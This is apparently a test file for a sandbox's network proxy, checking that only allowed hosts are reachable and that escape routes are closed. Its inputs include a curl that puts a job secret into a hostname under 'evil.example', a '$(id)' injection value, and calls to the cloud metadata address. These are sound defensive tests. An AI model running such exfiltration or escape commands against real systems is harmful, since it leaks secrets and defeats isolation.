import { readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:net'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import type { CommandOptions, Sandbox } from '../../../../src/ports/sandbox.ts'
import { runningProcesses } from '../../../support/processes.ts'
import { makeTree, needsSandbox, realSandbox, type Tree } from '../../../support/sandbox.ts'
import { PUBLIC, smallInternet } from '../../../support/small-internet.ts'
import { openRegistry } from '../../../support/small-registry.ts'
import { openEcho, openWeb, portOf, type Web } from '../../../support/web-server.ts'

let tree: Tree
let sandbox: Sandbox
let web: Web
let echo: Awaited<ReturnType<typeof openEcho>>
beforeEach(async () => {
  tree = makeTree()
  web = await openWeb()
  echo = await openEcho()
  sandbox = await sandboxFor(web.port, echo.port)
})
afterEach(() => {
  web?.close()
  echo?.close()
  tree?.remove()
})

const sandboxFor = (http: number, https: number, allow = ['registry.example']): Promise<Sandbox> => {
  const internet = smallInternet({ 'registry.example': [PUBLIC], 'evil.example': [PUBLIC] }, { 80: http, 443: https })
  return realSandbox('bubblewrap', { network: { allow, internet } })
}
const run = (argv: string[], options: Partial<CommandOptions> = {}) =>
  sandbox.run(argv, { worktree: tree.path, seconds: 60, ...options })
const shell = (script: string, options = {}) => run(['sh', '-c', script], options)
const node = (script: string, options = {}) => run(['node', '-e', script], options)

/** Sends bytes to a socket, which `to` names, and prints what comes back until it has ended or is quiet. */
const sends = (to: string, bytes: string) =>
  node(
    `const s = require('net').connect(${to}, () => s.write(${JSON.stringify(bytes)})); s.setTimeout(2000, () => s.destroy());
     s.on('data', (d) => process.stdout.write(d)).on('error', (e) => console.log(e.code))`,
  )
const PROXY = 'Number(new URL(process.env.HTTP_PROXY).port)'

describe('with an allowed host, a command', needsSandbox, () => {
  it('reaches it by the variables that programs know, with curl as with what node brings', async () => {
    expect((await shell('curl -sS http://registry.example/a')).log).toBe('got /a\n')
    const viaNode = `require('http').get({ ...url.urlToHttpOptions(new URL(process.env.http_proxy)), path: 'http://registry.example/b', headers: { host: 'registry.example' } }, (r) => r.pipe(process.stdout))`
    expect((await node(viaNode)).log).toBe('got /b\n')
    expect(web.requests).toEqual(['GET registry.example/a', 'GET registry.example/b'])
    expect((await sends(PROXY, 'CONNECT registry.example:443 HTTP/1.1\r\nHost: x\r\n\r\nhello')).log).toMatch(
      /\r\n\r\nHELLO$/,
    )
    expect(sandbox.refusedHosts()).toEqual([])
  })

  it('installs a package from a registry there, and the lock file names it', async () => {
    const registry = await openRegistry(['padder'])
    sandbox = await sandboxFor(registry.port, echo.port)
    writeFileSync(join(tree.path, 'package.json'), '{"name":"mine","version":"1.0.0"}\n')
    const ran = await shell(
      'npm install --no-audit --no-fund --registry http://registry.example/ padder && node -p "require(\'padder\')"',
    )
    registry.close()
    expect(ran.log).toMatch(/added 1 package[\s\S]*\npadded\n$/)
    const lock: unknown = JSON.parse(readFileSync(join(tree.path, 'package-lock.json'), 'utf8'))
    expect(lock).toMatchObject({ packages: { 'node_modules/padder': { version: '1.0.0' } } })
    expect(registry.paths).toEqual(['/padder', '/padder/-/padder-1.0.0.tgz'])
  })

  it('is told which hosts it did not reach, and they are counted over all commands', async () => {
    const ran = await shell('curl -sS https://evil.example/; curl -s http://evil.example/ >/dev/null; exit 3')
    expect(ran.exitCode).toBe(3)
    expect(ran.log).toMatch(
      /\n\nRefused by the proxy of the sandbox:\n- "evil\.example", 2 requests: `network\.allow` in the settings does not name it\n$/,
    )
    const again = await shell('curl -s https://evil.example/; curl -s http://127.0.0.2/')
    expect(again.log).toContain('- "evil.example", 1 request:')
    expect(sandbox.refusedHosts()).toEqual([
      { host: 'evil.example', why: 'not-listed', requests: 3 },
      { host: '127.0.0.2', why: 'no-name', requests: 1 },
    ])
  })

  it('a secret in the name of a host that was refused is not told', async () => {
    const network = { allow: ['registry.example'], internet: smallInternet({}, {}) }
    sandbox = await realSandbox('bubblewrap', { secrets: ['s3cr3t-of-the-job'], network })
    const ran = await shell('curl -s https://s3cr3t-of-the-job.evil.example/')
    expect(ran.log).toContain('"***.evil.example"')
    expect(JSON.stringify(sandbox.refusedHosts())).not.toContain('s3cr3t-of-the-job')
  })

  it('follows a redirect only to a host that is allowed too', async () => {
    const ran = await shell('curl -sSL http://registry.example/away')
    expect(ran.log).toContain('"evil.example" is refused')
    expect(web.requests).toEqual(['GET registry.example/away'])
  })

  it('keeps its exit code, its output, its words, its time limit and the end of its signals', async () => {
    expect(await shell('echo out; echo err >&2; exit 7')).toMatchObject({ exitCode: 7, log: 'out\nerr\n' })
    expect((await shell('kill -TERM $$')).exitCode).toBe(143)
    expect((await node('console.log(process.argv.slice(1))', {})).log).toBe('[]\n')
    expect(await run(['printf', '%s|', '-e', '$(id)', ''])).toMatchObject({ log: '-e|$(id)||' })
    expect((await run(['no-such-program'])).log).toContain('no-such-program')
    expect(await shell('sleep 30', { seconds: 1 })).toMatchObject({ timedOut: true })
  })

  it('still starts servers on its own loopback and reaches them, past the proxy', async () => {
    const server = `require('http').createServer((q, r) => r.end('mine\\n')).listen(8123, '127.0.0.1', () => {
      const curl = require('child_process').spawn('curl', ['-sS', 'http://localhost:8123/', 'http://127.0.0.1:8123/'], { stdio: 'inherit' })
      curl.on('exit', () => process.exit())
    })`
    expect((await node(server)).log).toBe('mine\nmine\n')
  })

  it('leaves nothing behind: its processes end with it, and so does the proxy', async () => {
    const ran = await shell(
      `sh -c 'while :; do sleep 1; done' ${tree.path} & grep -o 'tributary-proxy-[^/]*' /proc/self/mountinfo`,
    )
    expect(runningProcesses().filter(({ args }) => args.includes(tree.path))).toEqual([])
    expect(ran.log).toMatch(/^tributary-proxy-\w+\n$/)
    expect(readdirSync('/tmp')).not.toContain(ran.log.trim())
  })
})

describe('with an allowed host, a command still has no other way out', needsSandbox, () => {
  it('no other interface than loopback, no name server, no socket to an address', async () => {
    expect((await node('console.log(Object.keys(os.networkInterfaces()).join())')).log).toBe('lo\n')
    const lookup = `require('dns').lookup('registry.example', (e) => console.log(e.code))`
    expect((await node(lookup)).log).toMatch(/^(EAI_AGAIN|ENOTFOUND)\n$/)
    const query = `require('dns').resolve4('registry.example', (e) => console.log(e.code))`
    expect((await node(query)).log).toMatch(/^E[A-Z]+\n$/)
    expect((await sends("80, '93.184.215.14'", 'GET / HTTP/1.0\r\n\r\n')).log).toBe('ENETUNREACH\n')
    expect((await sends("80, '169.254.169.254'", 'GET / HTTP/1.0\r\n\r\n')).log).toBe('ENETUNREACH\n')
    const udp = `const s = require('dgram').createSocket('udp4'); s.send('x', 53, '8.8.8.8', (e) => { console.log(e?.code); s.close() })`
    expect((await node(udp)).log).toBe('ENETUNREACH\n')
    expect(
      (await shell('python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)"')).exitCode,
    ).not.toBe(0)
  })

  it("not to the job's own loopback, where the hub or a daemon may listen", async () => {
    const server = createServer((socket) => socket.end('reached'))
    const port = await portOf(server)
    expect((await sends(`${port}, '127.0.0.1'`, 'x')).log).toBe('ECONNREFUSED\n')
    for (const host of ['localhost', '127.0.0.1', '[::1]', '0.0.0.0', '2130706433'])
      expect((await sends(PROXY, `CONNECT ${host}:${port} HTTP/1.1\r\nHost: x\r\n\r\n`)).log).toMatch(
        /^HTTP\/1\.1 403 /,
      )
    server.close()
  })

  it('the socket leads to the proxy, and to nothing else; it can be neither removed nor replaced', async () => {
    const socket = "'/run/tributary/proxy'"
    expect((await sends(socket, 'CONNECT evil.example:443 HTTP/1.1\r\nHost: x\r\n\r\n')).log).toMatch(
      /^HTTP\/1\.1 403 /,
    )
    expect((await sends(socket, 'GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n')).log).toMatch(
      /^HTTP\/1\.1 403 /,
    )
    expect((await sends(socket, 'GET / HTTP/1.1\r\nHost: registry.example\r\n\r\n')).log).toMatch(/^HTTP\/1\.1 403 /)
    expect((await sends(socket, '\x05\x01\x00')).log).toContain('400 Bad Request')
    const ran = await shell(
      'rm -f /run/tributary/proxy; mv /run/tributary/proxy /tmp/x; echo > /run/tributary/node; ls /run/tributary',
    )
    expect(ran.log).toMatch(/busy[\s\S]*Read-only[\s\S]*\nnode\nproxy\n$/)
  })

  it('not by a socket of another command, nor by variables that it changes for itself', async () => {
    expect((await shell('ls /tmp')).log).not.toContain('tributary-proxy')
    const ran = await shell('env -u http_proxy -u HTTP_PROXY curl -sS --max-time 5 http://registry.example/')
    expect(ran.exitCode).not.toBe(0)
    expect(web.requests).toEqual([])
  })
})

describe('without an allowed host', needsSandbox, () => {
  it('there is no proxy, no socket and no variable, and package managers are told that they are offline', async () => {
    sandbox = await sandboxFor(web.port, echo.port, [])
    const ran = await shell('env | grep -i proxy; ls /run/tributary; echo $npm_config_offline')
    expect(ran.log).toMatch(/^ls: .*No such file.*\ntrue\n$/)
  })
})
